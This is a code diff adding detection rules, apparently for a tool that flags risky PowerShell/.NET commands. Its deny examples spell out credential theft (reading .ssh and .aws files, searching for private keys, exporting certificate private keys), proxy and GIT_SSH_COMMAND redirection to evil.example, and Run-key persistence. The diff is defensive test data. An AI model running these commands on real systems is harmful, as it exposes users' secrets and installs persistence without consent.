@@ -105,8 +105,14 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
     summary: '[IO.File] readers and [IO.Directory] listings: the first argument is the file read (the directory listed)',
     analyze: (call: Call) => ({ uses: call.args[0] ? [{ word: call.args[0], role: call.name.startsWith('[io.directory]') ? ('meta' as const) : ('read' as const) }] : [] }),
     examples: {
-      deny: [ps("[System.IO.File]::ReadAllText('\\\\evil.example\\share\\x')"), ps("[IO.Directory]::GetFiles('\\\\evil.example\\share')")],
-      pass: [ps("[IO.File]::ReadAllText('notes.txt')"), ps("[IO.Directory]::GetFiles('src')")],
+      deny: [
+        ps("[System.IO.File]::ReadAllText('\\\\evil.example\\share\\x')"),
+        ps("[IO.Directory]::GetFiles('\\\\evil.example\\share')"),
+        ps('[IO.Directory]::GetFiles("$HOME\\.ssh") | Get-Content'),
+        ps("[IO.Directory]::EnumerateFiles($HOME, '*', 'AllDirectories') | Select-String 'PRIVATE KEY'"),
+        ps('foreach ($f in [IO.Directory]::GetFiles("$HOME\\.aws")) { [IO.File]::ReadAllText($f) }'),
+      ],
+      pass: [ps("[IO.File]::ReadAllText('notes.txt')"), ps("[IO.Directory]::GetFiles('src')"), ps('[IO.Directory]::GetFiles("$HOME\\.ssh") | Measure-Object'), ps("[IO.Directory]::EnumerateFiles('.', '*.ts', 'AllDirectories') | Select-String 'TODO'")],
     },
   },
   {
@@ -204,8 +210,21 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
       return { ...runs, ...(lasting ? { persists: [{ word: nameWord, why: `SetEnvironmentVariable sets ${name} for every later process (${scope}): a variable that decides what runs` }] } : {}) };
     },
     examples: {
-      deny: [ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')"), ps("[Environment]::SetEnvironmentVariable('COR_PROFILER', '{00000000-0000-0000-0000-000000000001}', [EnvironmentVariableTarget]::User)")],
-      pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')")],
+      deny: [ps("[Environment]::SetEnvironmentVariable('HTTPS_PROXY', 'http://evil.example'); npm install"), ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')"), ps("[Environment]::SetEnvironmentVariable('COR_PROFILER', '{00000000-0000-0000-0000-000000000001}', [EnvironmentVariableTarget]::User)")],
+      pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')"), ps("[Environment]::SetEnvironmentVariable('HTTPS_PROXY', 'http://localhost:8080'); npm install")],
+    },
+  },
+  {
+    names: members(['security.cryptography.x509certificates.x509certificate2'], ['export', 'exportprivatekey']),
+    dialects: [PS],
+    summary: "A certificate of the store exported with its private key (X509Certificate2.Export('Pfx'), ExportRSAPrivateKey(), ExportPkcs8PrivateKey()…): the store's Crypto keys read",
+    analyze: (call: Call) => {
+      const at = call.args[0] ?? call.command;
+      return at ? { uses: [{ word: at, role: 'read', values: ['~/AppData/Roaming/Microsoft/Crypto/'] }] } : {};
+    },
+    examples: {
+      deny: [ps("(Get-Item Cert:\\CurrentUser\\My\\ABC).PrivateKey.ExportRSAPrivateKey()"), ps("$c = Get-Item Cert:\\CurrentUser\\My\\ABC; [IO.File]::WriteAllBytes('out.bin', $c.Export('Pfx', 'pw'))")],
+      pass: [ps("$c = Get-Item Cert:\\CurrentUser\\My\\ABC; [IO.File]::WriteAllBytes('out.cer', $c.Export('Cert'))"), ps('[Security.Cryptography.RSA]::Create(2048).ExportRSAPrivateKey()')],
     },
   },
   {
@@ -239,8 +258,14 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
       deny: [
         ps("$k = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true); $k.SetValue('up', 'C:\\tmp\\a.exe')"),
         ps("[Microsoft.Win32.Registry]::CurrentUser.CreateSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce').SetValue('up', 'C:\\tmp\\a.exe')"),
+        ps("(Get-Item HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion).OpenSubKey('Run', $true).SetValue('up', 'C:\\tmp\\a.exe')"),
+        ps("$k = Get-Item HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion; $k.OpenSubKey('Run', $true).SetValue('up', 'C:\\tmp\\a.exe')"),
       ],
-      pass: [ps("[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run').GetValueNames()"), ps("[Microsoft.Win32.Registry]::CurrentUser.CreateSubKey('Software\\Acme').SetValue('Theme', 'dark')")],
+      pass: [
+        ps("[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run').GetValueNames()"),
+        ps("[Microsoft.Win32.Registry]::CurrentUser.CreateSubKey('Software\\Acme').SetValue('Theme', 'dark')"),
+        ps("(Get-Item HKCU:\\Software\\Acme).OpenSubKey('App', $true).SetValue('Theme', 'dark')"),
+      ],
     },
   },
   {
